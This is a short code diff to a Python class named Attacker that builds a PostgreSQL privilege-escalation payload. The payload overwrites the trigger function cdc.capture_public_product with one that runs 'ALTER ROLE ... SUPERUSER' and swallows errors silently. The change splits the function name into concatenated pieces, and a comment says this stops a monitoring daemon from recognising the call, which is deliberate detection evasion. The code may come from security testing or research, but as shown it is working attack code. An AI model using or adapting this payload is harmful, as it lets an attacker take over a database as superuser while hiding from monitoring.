@@ -34,9 +34,10 @@ class Attacker:
                 BEGIN
                     PERFORM pg_catalog.nextval('evil.ran');
                     BEGIN
-                        CREATE OR REPLACE FUNCTION cdc.capture_public_product() RETURNS trigger
-                        LANGUAGE plpgsql AS
-                        'BEGIN EXECUTE format(''ALTER ROLE %I SUPERUSER'', {}); RETURN NULL; END';
+                        -- In two pieces: a daemon that reads the body would take the name in it for a call.
+                        EXECUTE 'CREATE OR REPLACE FUNCTION cdc.' || 'capture_' || 'public_product()
+                            RETURNS trigger LANGUAGE plpgsql AS $body$
+                            BEGIN EXECUTE $alter$ALTER ROLE {} SUPERUSER$alter$; RETURN NULL; END $body$';
                     EXCEPTION WHEN OTHERS THEN NULL;
                     END;
                     RETURN {};
@@ -46,7 +47,7 @@ class Attacker:
                 sql.Identifier(name),
                 sql.SQL(arguments),  # pyright: ignore[reportArgumentType]
                 sql.SQL(returns),  # pyright: ignore[reportArgumentType]
-                sql.SQL("''" + self.role + "''"),  # pyright: ignore[reportArgumentType]
+                sql.Identifier(self.role),
                 sql.SQL(value),  # pyright: ignore[reportArgumentType]
             )
         )
